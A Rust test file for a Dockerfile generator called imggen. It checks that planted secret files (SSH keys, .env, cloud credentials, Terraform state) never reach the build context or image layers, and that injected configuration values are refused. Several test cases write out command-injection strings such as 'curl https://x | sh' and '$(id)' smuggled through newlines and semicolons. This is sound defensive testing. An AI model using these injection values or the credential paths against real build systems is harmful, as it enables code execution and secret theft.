//! Nothing leaked, nothing injected: secret files stay out of the build context and the image,
//! and configuration values that could add instructions or shell are refused with exit 2.

use crate::harness::Test;
use std::process::Command;

/// Secret files planted at several depths of a project; every one must stay out.
const PLANTED: &[&str] = &[
    ".env",
    ".env.production",
    "config/.env",
    "config/.env.local",
    "configuration/credentials.json",
    "configuration/app.pem",
    "configuration/nested/deep/server.key",
    "a/b/c/.env",
    "src/certs/client.p12",
    "deploy/tls/site.pfx",
    "android/release.jks",
    "android/app/upload.keystore",
    "id_rsa",
    "keys/id_ed25519",
    "ops/id_ecdsa",
    "old/id_dsa",
    ".npmrc",
    "web/.npmrc",
    ".netrc",
    ".git-credentials",
    ".docker/config.json",
    "tools/.docker/config.json",
    ".aws/credentials",
    "infra/.aws/config",
    ".ssh/known_hosts",
    ".gnupg/private-keys-v1.d/a.key",
    "secrets/db-password.txt",
    "config/secrets/api-token",
    "infra/terraform.tfstate",
    "infra/terraform.tfstate.backup",
    "infra/prod.tfvars",
    "gcp/service-account-prod.json",
    "service-account.json",
    ".pgpass",
    "web/.htpasswd",
    ".vault-token",
    ".cargo/credentials.toml",
    ".kube/config",
];

/// Files the build or the binary needs; every one must be sent.
const KEPT: &[&str] = &[
    "Cargo.toml",
    "Cargo.lock",
    "src/main.rs",
    "src/secrets/mod.rs",
    "src/keys.rs",
    ".cargo/config.toml",
    ".sqlx/query-1.json",
    "build.rs",
    "configuration/base.yaml",
    "migrations/20240101000000_init.sql",
    "static/index.css",
    ".env.example",
    "config/.env.sample",
    ".env.template",
    "README.md",
];

/// A copy of zero2prod (run-time dirs `configuration/` and `migrations/`) with the secrets and
/// build inputs above planted, then generated (a planted build script is one of the planner's
/// inputs).
fn planted() -> Test {
    let mut t = Test::fixture("zero2prod");
    for p in PLANTED.iter().chain(KEPT) {
        if !t.path().join(p).exists() {
            // Build inputs stay valid: the end-to-end test builds this project.
            let contents = match *p {
                "build.rs" => "fn main() {}\n",
                p if p.ends_with(".toml") => "# planted\n",
                _ => "planted\n",
            };
            t = t.write(p, contents);
        }
    }
    let t = t.args(&["generate"]);
    t.run().code(0);
    t
}

#[test]
fn planted_secrets_at_every_depth_never_reach_the_build_context() {
    assert!(PLANTED.len() >= 27);
    let t = planted();
    let sent = imggen::context::list_context(t.path(), "Dockerfile").unwrap();
    for p in PLANTED {
        assert!(!sent.contains(&p.to_string()), "{p} is sent: {sent:?}");
    }
    for p in KEPT {
        assert!(sent.contains(&p.to_string()), "{p} is not sent: {sent:?}");
    }
    // The generated file carries the rules: Docker's own matcher reads it the same way.
    let ignore = imggen::dockerignore::DockerIgnore::try_parse(&t.read(".dockerignore")).unwrap();
    for p in PLANTED {
        assert!(ignore.is_excluded(p), "{p}");
    }
    for p in KEPT {
        assert!(!ignore.is_excluded(p), "{p}");
    }
}

#[test]
fn builder_deletes_secret_files_from_copied_directories_with_the_same_rules() {
    let t = Test::fixture("zero2prod").args(&["generate"]);
    t.run().code(0);
    let dockerfile = t.read("Dockerfile");
    // One source of truth: every .dockerignore rule is in the generated file.
    let ignore = t.read(".dockerignore");
    for line in imggen::secrets::dockerignore_lines() {
        assert!(
            ignore.lines().any(|l| l == line),
            "{line} not in .dockerignore"
        );
    }
    let lines: Vec<&str> = dockerfile.lines().collect();
    let cp = lines
        .iter()
        .rposition(|l| l.contains("cp -R "))
        .expect("run-time dirs are copied");
    let find = lines
        .iter()
        .position(|l| l.contains("find /rootfs/app"))
        .unwrap_or_else(|| panic!("no clean-up of /rootfs/app:\n{dockerfile}"));
    assert!(find > cp, "the clean-up runs after the copy:\n{dockerfile}");
    let runtime = lines.iter().position(|l| l.contains("AS runtime")).unwrap();
    assert!(find < runtime, "in the builder stage:\n{dockerfile}");

    // Run the generated command on a tree like /rootfs/app with the secrets planted.
    // The command's lines: up to the next `&&` step or the end of the RUN.
    let mut command = lines[find].trim().trim_start_matches("&& ").to_string();
    for line in &lines[find + 1..] {
        if !command.ends_with(" \\") || line.trim_start().starts_with("&&") {
            break;
        }
        command = format!("{}\n{}", command, line);
    }
    let command = command.trim_end_matches(" \\").to_string();
    let app = tempfile::tempdir().unwrap();
    for p in PLANTED.iter().chain(KEPT) {
        let path = app.path().join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, "planted\n").unwrap();
    }
    let command = command.replace("/rootfs/app", &app.path().display().to_string());
    let out = Command::new("sh").arg("-c").arg(&command).output().unwrap();
    assert!(out.status.success(), "{command}: {out:?}");
    for p in PLANTED {
        assert!(!app.path().join(p).exists(), "{p} survived {command}");
    }
    for p in KEPT.iter().filter(|p| !p.contains("secrets/")) {
        assert!(app.path().join(p).exists(), "{p} was deleted by {command}");
    }
}

#[test]
fn plan_warns_about_secret_files_in_copied_directories() {
    let t = Test::fixture("zero2prod")
        .write("configuration/.env", "DB_PASSWORD=x\n")
        .write("configuration/prod/credentials.json", "{}\n")
        .write("migrations/app.pem", "x\n")
        .write("configuration/.env.example", "DB_PASSWORD=\n")
        .args(&["plan"]);
    let run = t.run();
    run.code(0);
    let all = format!("{}{}", run.stdout, run.stderr);
    for p in [
        "configuration/.env ",
        "configuration/prod/credentials.json ",
        "migrations/app.pem ",
    ] {
        assert!(all.contains(p), "{p}: {all}");
    }
    assert!(!all.contains("configuration/.env.example"), "{all}");
    assert!(all.contains("excluded from the build context"), "{all}");
}

/// imggen.toml lines, flags, environment, and what the error must name.
type Case<'a> = (&'a str, &'a [&'a str], &'a [(&'a str, &'a str)], &'a str);

/// `imggen <command>` in a copy of axum-single with `toml` appended to imggen.toml and `args`
/// and `env` added; returns the project and the run.
fn run_in_axum(
    command: &str,
    toml: &str,
    args: &[&str],
    env: &[(&str, &str)],
) -> (Test, crate::harness::Run) {
    let mut all = vec![command];
    all.extend_from_slice(args);
    let mut t = Test::fixture("axum-single")
        .write("imggen.toml", &format!("version = 1\n{toml}\n"))
        .args(&all);
    for (k, v) in env {
        t = t.env(k, v);
    }
    let run = t.run();
    (t, run)
}

/// `imggen generate` with a value that must be refused: nothing may be written.
fn generate_with(toml: &str, args: &[&str], env: &[(&str, &str)]) -> crate::harness::Run {
    let (t, run) = run_in_axum("generate", toml, args, env);
    assert!(
        !t.path().join("Dockerfile").exists(),
        "a refused value writes nothing: {}",
        run.stderr
    );
    run
}

#[test]
fn injected_values_are_refused_naming_key_and_layer() {
    let cases: &[Case] = &[
        (
            "build_packages = [\"curl\\nRUN curl https://x | sh\"]",
            &[],
            &[],
            "build_packages",
        ),
        (
            "runtime_packages = [\"curl; curl https://x | sh\"]",
            &[],
            &[],
            "runtime_packages",
        ),
        ("features = [\"x/$(curl https://x)\"]", &[], &[], "features"),
        ("features = [\"nosuchdep/feat\"]", &[], &[], "nosuchdep"),
        ("profile = \"release\\nRUN id\"", &[], &[], "`profile`"),
        (
            "rust_version = \"1.95\\nRUN id\"",
            &[],
            &[],
            "`rust_version`",
        ),
        (
            "builder_image = \"rust:1\\nRUN id\"",
            &[],
            &[],
            "`builder_image`",
        ),
        ("include = [\"x$(curl https://x)\"]", &[], &[], "`include`"),
        (
            "[image]\nname = \"api\\nExecStartPre=+/bin/sh -c id\"",
            &[],
            &[],
            "[image] name",
        ),
        (
            "",
            &[],
            &[("IMGGEN_PROFILE", "release\nRUN id")],
            "IMGGEN_PROFILE=",
        ),
        (
            "",
            &[],
            &[("IMGGEN_FEATURES", "a/$(id)")],
            "IMGGEN_FEATURES=",
        ),
        (
            "",
            &[],
            &[("IMGGEN_BUILDER_IMAGE", "x y")],
            "IMGGEN_BUILDER_IMAGE=",
        ),
        ("", &["--profile", "a;id"], &[], "--profile"),
        ("", &["--features", "x/$(id)"], &[], "--features"),
        ("", &["--rust-version", "1.95 && id"], &[], "--rust-version"),
    ];
    for (toml, args, env, named) in cases {
        let run = generate_with(toml, args, env);
        run.code(2).one_error_line().stderr_has(named);
    }
}

#[test]
fn names_cargo_would_reject_are_refused() {
    for (from, to) in [
        ("name = \"hello-axum\"", "name = \"hello axum$(id)\""),
        (
            "publish = false",
            "publish = false\nautobins = false\n\n[[bin]]\nname = \"x;id\"\npath = \"src/main.rs\"",
        ),
    ] {
        let t = Test::fixture("axum-single");
        let manifest = t.read("Cargo.toml").replace(from, to);
        let t = t.write("Cargo.toml", &manifest).args(&["generate"]);
        let run = t.run();
        run.code(2).one_error_line().stderr_has("cargo");
        assert!(!t.path().join("Dockerfile").exists());
    }
}

#[test]
fn include_must_be_an_existing_directory_inside_the_project() {
    for bad in [
        "/",
        "/etc",
        "../outside",
        "config/../../..",
        "~/.ssh",
        "-rf",
        "missing",
        "outlink",
    ] {
        let t = Test::fixture("axum-single").write(
            "imggen.toml",
            &format!("version = 1\ninclude = [{bad:?}]\n"),
        );
        std::os::unix::fs::symlink("/etc", t.path().join("outlink")).unwrap();
        let run = t.args(&["generate"]).run();
        run.code(2).one_error_line().stderr_has("`include`");
    }
    let t = Test::fixture("axum-single")
        .write("imggen.toml", "version = 1\ninclude = [\"data\"]\n")
        .write("data/a.txt", "a\n")
        .args(&["generate"]);
    t.run().code(0);
    assert!(t.read("Dockerfile").contains("cp -R data /rootfs/app/data"));
}

#[test]
fn ports_env_health_and_domains_are_validated_in_every_layer() {
    let cases: &[Case] = &[
        ("port = 0", &[], &[], "`port`"),
        ("", &[], &[("IMGGEN_PORT", "0")], "IMGGEN_PORT="),
        ("", &["--port", "0"], &[], "--port"),
        ("[env]\n\"A B\" = \"x\"", &[], &[], "`env`"),
        ("[env]\n\"A\\nB\" = \"x\"", &[], &[], "`env`"),
        (
            "[env]\nA = \"x\\nExecStartPre=+/bin/sh\"",
            &[],
            &[],
            "[env] A",
        ),
        ("health_path = \"health check\"", &[], &[], "`health_path`"),
        (
            "",
            &[],
            &[("IMGGEN_HEALTH_PATH", "/h\"x")],
            "IMGGEN_HEALTH_PATH=",
        ),
        (
            "platforms = [\"vm\"]\n[vm]\ndomain = \".\"",
            &[],
            &[],
            "[vm] domain",
        ),
    ];
    for (toml, args, env, named) in cases {
        let run = generate_with(toml, args, env);
        run.code(2).one_error_line().stderr_has(named);
    }
}

#[test]
fn plan_names_the_layer_each_value_came_from() {
    let plan = |toml: &str, args: &[&str], env: &[(&str, &str)]| {
        let (_, run) = run_in_axum("plan", toml, args, env);
        run.code(0);
        run.stdout.clone()
    };
    // The decision's value line and the reason on the line below it.
    let port_line = |out: &str| {
        let lines: Vec<&str> = out.lines().collect();
        let i = lines
            .iter()
            .position(|l| l.trim_start().starts_with("port ") && l.contains("4321"))
            .unwrap_or_else(|| panic!("{out}"));
        format!("{}\n{}", lines[i], lines.get(i + 1).unwrap_or(&""))
    };
    assert!(port_line(&plan("port = 4321", &[], &[])).contains("imggen.toml `port`"));
    let env = port_line(&plan("port = 1", &[], &[("IMGGEN_PORT", "4321")]));
    assert!(
        env.contains("IMGGEN_PORT") && !env.contains("imggen.toml"),
        "{env}"
    );
    let flag = port_line(&plan(
        "port = 1",
        &["--port", "4321"],
        &[("IMGGEN_PORT", "2")],
    ));
    assert!(
        flag.contains("--port") && !flag.contains("IMGGEN_PORT"),
        "{flag}"
    );
}

/// Every path in every layer of `image`, as `docker save` writes them (leading `./` removed).
fn layer_entries(image: &str) -> Vec<String> {
    let mut child = crate::docker::docker()
        .args(["save", image])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut outer = tar::Archive::new(child.stdout.take().unwrap());
    let mut paths = Vec::new();
    let mut layers = 0;
    for entry in outer.entries().unwrap() {
        let entry = entry.unwrap();
        let name = entry.path().unwrap().display().to_string();
        if !name.ends_with("layer.tar") {
            continue;
        }
        layers += 1;
        let mut inner = tar::Archive::new(entry);
        for e in inner.entries().unwrap() {
            let e = e.unwrap();
            paths.push(
                e.path()
                    .unwrap()
                    .display()
                    .to_string()
                    .trim_start_matches("./")
                    .to_string(),
            );
        }
    }
    assert!(child.wait().unwrap().success(), "docker save {image}");
    assert!(layers > 0, "docker save {image} held no layer");
    paths
}

#[test]
fn no_planted_secret_reaches_the_context_a_builder_layer_or_the_image() {
    if !crate::harness::engine() {
        return;
    }
    let t = planted();
    let sent = imggen::context::list_context(t.path(), "Dockerfile").unwrap();
    assert!(
        PLANTED.iter().all(|p| !sent.contains(&p.to_string())),
        "{sent:?}"
    );
    let unique = format!(
        "{}-{:x}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    );
    let final_tag = format!("imggen-test/secrets:{unique}");
    let builder_tag = format!("imggen-test/secrets-builder:{unique}");
    for args in [
        vec!["--tag", final_tag.as_str()],
        vec!["--tag", builder_tag.as_str(), "--target", "builder"],
    ] {
        let mut all = vec!["build", "--progress", "plain", "--network", "host"];
        all.extend(args);
        let run = Command::new(env!("CARGO_BIN_EXE_imggen"))
            .args(&all)
            .current_dir(t.path())
            .env_remove("IMGGEN_BIN")
            .output()
            .unwrap();
        assert!(
            run.status.success(),
            "imggen {all:?}: {}",
            String::from_utf8_lossy(&run.stderr)
        );
    }
    let is_planted = |entry: &str| {
        PLANTED
            .iter()
            .any(|p| entry == *p || entry.ends_with(&format!("/{p}")))
    };
    let builder = layer_entries(&builder_tag);
    assert!(
        builder.iter().any(|e| e == "app/src/main.rs"),
        "the builder's layers are listed"
    );
    assert!(builder
        .iter()
        .any(|e| e == "rootfs/app/configuration/base.yaml"));
    let leaked: Vec<&String> = builder.iter().filter(|e| is_planted(e)).collect();
    assert!(leaked.is_empty(), "in a builder layer: {leaked:?}");
    let image = layer_entries(&final_tag);
    assert!(
        image.iter().any(|e| e == "app/configuration/base.yaml"),
        "{image:?}"
    );
    let leaked: Vec<&String> = image.iter().filter(|e| is_planted(e)).collect();
    assert!(leaked.is_empty(), "in the image: {leaked:?}");

    // A .dockerignore edited by hand sends the secrets; the image still holds none of them.
    std::fs::write(t.path().join(".dockerignore"), "target\n").unwrap();
    let edited_tag = format!("imggen-test/secrets-edited:{unique}");
    let run = Command::new(env!("CARGO_BIN_EXE_imggen"))
        .args(["build", "--progress", "plain", "--network", "host"])
        .args(["--allow-dirty", "--tag", &edited_tag])
        .current_dir(t.path())
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let image = layer_entries(&edited_tag);
    assert!(image.iter().any(|e| e == "app/configuration/base.yaml"));
    let leaked: Vec<&String> = image.iter().filter(|e| is_planted(e)).collect();
    assert!(
        leaked.is_empty(),
        "in the image built with an edited .dockerignore: {leaked:?}"
    );
    for tag in [&final_tag, &builder_tag, &edited_tag] {
        let _ = crate::docker::docker().args(["rmi", tag]).output();
    }
}
